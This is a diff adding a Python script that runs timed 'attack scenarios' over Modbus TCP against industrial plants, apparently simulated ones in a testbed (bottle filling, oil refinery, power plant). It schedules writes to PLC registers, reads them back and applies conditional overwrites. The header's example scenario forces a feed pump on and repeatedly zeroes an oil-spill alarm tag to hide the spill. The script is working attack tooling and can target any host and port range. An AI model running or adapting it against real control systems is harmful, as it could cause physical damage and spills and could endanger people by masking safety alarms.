@@ -0,0 +1,354 @@
+#!/usr/bin/env python
+# Timed attack scenarios.
+#
+# A scenario is a JSON file of steps, each at an offset in seconds from the
+# start, which write tags, read them back, or both:
+#
+#   {
+#     "name": "spill and hide it",
+#     "plant": "oil-refinery",
+#     "steps": [
+#       {"at": 0, "write": {"PLC_FEED_PUMP": 1, "PLC_TANK_LEVEL": 0}},
+#       {"at": 1, "every": 0.5, "until": 60, "read": ["PLC_OIL_SPILL"],
+#        "when": {"PLC_OIL_SPILL": [">", 0]}, "write": {"PLC_OIL_SPILL": 0}}
+#     ]
+#   }
+#
+# plant names the directory whose *_tags.py module defines the tags.  A
+# step repeats every "every" seconds up to "until" (forever without it).
+# "when" holds conditions on tag values, {"TAG": value} for equality or
+# {"TAG": [op, value]} with op one of == != < <= > >=; the tags are read
+# when the step comes due and its writes only go out if all hold.  Values
+# named in "read" are logged.
+#
+# Every scenario runs against every target, all from one Twisted reactor
+# with one connection per plant:
+#
+#   ./scenario.py spill.json -t 127.0.0.1:5020
+#   ./scenario.py spill.json overpressure.json -t 127.0.0.1:6000-6049
+#
+# Occurrences are scheduled at absolute times from the common start, not
+# from the previous one, so timer latency never accumulates into drift;
+# the summary gives how late steps fired.
+
+from __future__ import division
+
+import argparse
+import importlib
+import json
+import logging
+import operator
+import os
+import sys
+
+from twisted.internet import defer, protocol, reactor
+from pymodbus.client.async import ModbusClientProtocol
+
+from attack_engine import LatencyStats, write_runs
+
+log = logging.getLogger(__name__)
+
+# Tag modules of the plant directories
+TAG_MODULES = {
+    'bottle-filling': 'bottle_tags',
+    'oil-refinery': 'oil_tags',
+    'powerplant': 'powerplant_tags',
+}
+
+OPERATORS = {
+    '==': operator.eq,
+    '!=': operator.ne,
+    '<': operator.lt,
+    '<=': operator.le,
+    '>': operator.gt,
+    '>=': operator.ge,
+}
+
+STEP_KEYS = set(['at', 'every', 'until', 'write', 'read', 'when'])
+
+# Seconds between connecting to the plants and the scenarios' time zero
+START_DELAY = 0.5
+
+
+def load_tags(plant):
+    """The TagDatabase of a plant directory next to common/."""
+    if plant not in TAG_MODULES:
+        raise ValueError("unknown plant %s" % plant)
+    sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', plant))
+    return importlib.import_module(TAG_MODULES[plant]).tags
+
+
+def _tag_name(tags, name):
+    # JSON names are unicode on Python 2; the tag database wants str
+    try:
+        return tags.lookup(str(name)).name
+    except KeyError:
+        raise ValueError("unknown tag %s" % name)
+
+
+class Step(object):
+
+    def __init__(self, tags, at, every=None, until=None, write=None, read=None, when=None):
+        self.at = float(at)
+        self.every = float(every) if every else None
+        self.until = float(until) if until is not None else None
+        self.write = dict((_tag_name(tags, name), value) for name, value in (write or {}).items())
+        self.read = [_tag_name(tags, name) for name in read or []]
+        self.when = []
+        for name, test in (when or {}).items():
+            op, value = test if isinstance(test, list) else ('==', test)
+            if op not in OPERATORS:
+                raise ValueError("unknown operator %s" % op)
+            self.when.append((_tag_name(tags, name), op, value))
+        if not (self.write or self.read):
+            raise ValueError("step at %s neither reads nor writes" % at)
+        self.runs = write_runs(tags.encode(self.write))
+
+        names = set(self.read) | set(name for name, op, value in self.when)
+        self.reads = sorted(names, key=lambda name: tags[name].address)
+        if self.reads:
+            self.first = min(tags[name].address for name in names)
+            self.count = max(tags[name].end for name in names) - self.first
+
+    def offset(self, n):
+        """Offset of occurrence n, or None past the last one."""
+        if n > 0 and self.every is None:
+            return None
+        t = self.at + n * (self.every or 0)
+        if self.until is not None and t > self.until:
+            return None
+        return t
+
+    def end(self):
+        """Offset of the last occurrence, None for a step that repeats
+        forever."""
+        return self.at if self.every is None else self.until
+
+    def decode(self, tags, registers):
+        """{name: value} of the tags read, from the registers read at
+        self.first."""
+        regs = dict(zip(range(self.first, self.first + self.count), registers))
+        return dict((tags.lookup(addr).name, value)
+                    for addr, value in tags.decode(regs, self.reads).items())
+
+    def holds(self, values):
+        return all(OPERATORS[op](values[name], value) for name, op, value in self.when)
+
+
+class Scenario(object):
+    """A named list of steps against one plant's tags."""
+
+    def __init__(self, name, plant, steps):
+        self.name = name
+        self.plant = plant
+        self.tags = load_tags(plant)
+        self.steps = []
+        for i, step in enumerate(steps):
+            unknown = set(step) - STEP_KEYS
+            if unknown:
+                raise ValueError("%s step %d: unknown keys %s" % (name, i, ', '.join(sorted(unknown))))
+            try:
+                self.steps.append(Step(self.tags, **step))
+            except (TypeError, ValueError) as ex:
+                raise ValueError("%s step %d: %s" % (name, i, ex))
+
+    @classmethod
+    def load(cls, path):
+        with open(path) as f:
+            spec = json.load(f)
+        name = spec.get('name') or os.path.splitext(os.path.basename(path))[0]
+        if 'plant' not in spec:
+            raise ValueError("%s names no plant" % path)
+        return cls(name, spec['plant'], spec.get('steps', []))
+
+    def end(self):
+        """Offset of the last step, None if one repeats forever."""
+        ends = [step.end() for step in self.steps]
+        if not ends or None in ends:
+            return None
+        return max(ends)
+
+
+class ScenarioRun(object):
+    """One scenario against one plant connection."""
+
+    def __init__(self, scenario, target, client):
+        self.scenario = scenario
+        self.target = target
+        self.client = client
+        self.finished = defer.Deferred()
+        self.start = None
+        self.timers = 0
+        self.in_flight = 0
+        self.fired = 0
+        self.skipped = 0
+        self.writes = 0
+        self.reads = 0
+        self.errors = 0
+        self.lateness = LatencyStats()
+
+    def run(self, start):
+        self.start = start
+        for step in self.scenario.steps:
+            self._schedule(step, 0)
+        self._check_done()
+        return self.finished
+
+    def stop(self):
+        self.client = None
+
+    def _schedule(self, step, n):
+        offset = step.offset(n)
+        if offset is None or self.client is None:
+            return
+        self.timers += 1
+        delay = max(0.0, self.start + offset - reactor.seconds())
+        reactor.callLater(delay, self._fire, step, n, offset)
+
+    def _fire(self, step, n, offset):
+        self.timers -= 1
+        if self.client is None:
+            self._check_done()
+            return
+        self.lateness.add(max(0.0, reactor.seconds() - self.start - offset))
+        self.fired += 1
+        self._schedule(step, n + 1)
+        if step.reads:
+            self._request(self.client.read_holding_registers(step.first, step.count),
+                          self._read_back, step, offset)
+        else:
+            self._write(step)
+
+    def _request(self, d, then=None, *args):
+        # then(response, *args) runs before the request stops counting as
+        # in flight, so writes it issues keep the run from finishing early
+        self.in_flight += 1
+
+        def done(result):
+            if result is None or getattr(result, 'function_code', 0) > 0x80:
+                self.errors += 1
+            elif then is not None:
+                then(result, *args)
+            self.in_flight -= 1
+            self._check_done()
+
+        def failed(failure):
+            self.in_flight -= 1
+            self.errors += 1
+            self._check_done()
+
+        d.addCallbacks(done, failed)
+        return d
+
+    def _read_back(self, response, step, offset):
+        self.reads += 1
+        values = step.decode(self.scenario.tags, response.registers)
+        if step.read:
+            log.info("%s %s +%.3f s: %s" % (self.scenario.name, self.target, offset,
+                                            ', '.join("%s=%s" % (name, values[name])
+                                                      for name in step.read)))
+        if step.holds(values):
+            self._write(step)
+        else:
+            self.skipped += 1
+
+    def _write(self, step):
+        if self.client is None:
+            return
+        for address, registers in step.runs:
+            self.writes += 1
+            self._request(self.client.write_registers(address, registers))
+
+    def _check_done(self):
+        if self.timers == 0 and self.in_flight == 0 and not self.finished.called:
+            self.finished.callback(self)
+
+    def summary(self):
+        return ("%s %s: %d steps fired, %d skipped, %d writes, %d reads, %d errors, "
+                "late by mean %.2f ms max %.2f ms"
+                % (self.scenario.name, self.target, self.fired, self.skipped, self.writes,
+                   self.reads, self.errors, self.lateness.mean() * 1000,
+                   self.lateness.max * 1000))
+
+
+def parse_targets(text):
+    """'host:port' or 'host:first-last' -> [(host, port), ...]."""
+    host, _, ports = text.rpartition(':')
+    if not host:
+        raise ValueError("target %r is not host:port" % text)
+    if '-' in ports:
+        first, last = [int(p) for p in ports.split('-', 1)]
+        return [(host, port) for port in range(first, last + 1)]
+    return [(host, int(ports))]
+
+
+def run(scenarios, targets, start_delay=START_DELAY):
+    """Run every scenario against every target; returns the runs once all
+    finished (or Ctrl-C)."""
+    creator = protocol.ClientCreator(reactor, ModbusClientProtocol)
+    connections = [creator.connectTCP(host, port, timeout=5) for host, port in targets]
+    runs = []
+
+    def connected(results):
+        start = reactor.seconds() + start_delay
+        waiting = []
+        for (host, port), (ok, client) in zip(targets, results):
+            target = "%s:%d" % (host, port)
+            if not ok:
+                log.error("Unable to connect to %s: %s" % (target, client.getErrorMessage()))
+                continue
+            for scenario in scenarios:
+                r = ScenarioRun(scenario, target, client)
+                runs.append(r)
+                waiting.append(r.run(start))
+        log.info("Running %d scenarios against %d plants"
+                 % (len(scenarios), len(runs) // max(1, len(scenarios))))
+        return defer.DeferredList(waiting)
+
+    def finished(result):
+        if reactor.running:
+            reactor.stop()
+
+    d = defer.DeferredList(connections, consumeErrors=True)
+    d.addCallback(connected)
+    d.addBoth(finished)
+    reactor.run()
+    for r in runs:
+        r.stop()
+    return runs
+
+
+# Override Argument parser to throw error and generate help message
+# if undefined args are passed
+class MyParser(argparse.ArgumentParser):
+    def error(self, message):
+        sys.stderr.write('error: %s\n' % message)
+        self.print_help()
+        sys.exit(2)
+
+
+def main():
+    parser = MyParser(
+        description = 'This Python script runs timed attack scenarios against plants',
+        epilog = '',
+        add_help = True)
+    parser.add_argument("scenarios", nargs="+",
+                        help = "Scenario JSON files")
+    parser.add_argument("-t", action = "append", dest="targets", default=[],
+                        help = "Plant as host:port or host:first-last port range (repeatable, default 127.0.0.1:5020)")
+    args = parser.parse_args()
+
+    logging.basicConfig()
+    log.setLevel(logging.INFO)
+
+    try:
+        scenarios = [Scenario.load(path) for path in args.scenarios]
+        targets = [t for text in args.targets or ['127.0.0.1:5020'] for t in parse_targets(text)]
+    except (IOError, ValueError) as ex:
+        parser.error(str(ex))
+
+    for r in run(scenarios, targets):
+        log.info(r.summary())
+
+if __name__ == '__main__':
+    sys.exit(main())